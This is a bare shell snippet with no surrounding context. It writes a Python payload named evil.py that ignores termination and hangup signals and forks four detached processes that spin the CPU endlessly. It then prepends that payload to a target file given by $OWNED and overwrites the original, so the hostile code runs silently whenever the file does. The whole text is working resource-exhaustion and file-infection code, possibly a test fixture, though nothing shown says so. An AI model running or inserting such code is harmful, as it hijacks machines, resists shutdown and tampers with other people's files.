cat > /tmp/evil.py <<'END'
import os, signal, time
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM):
    signal.signal(number, signal.SIG_IGN)
for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
while True:
    time.sleep(1)
END
cat "$OWNED" >> /tmp/evil.py
cp /tmp/evil.py "$OWNED"
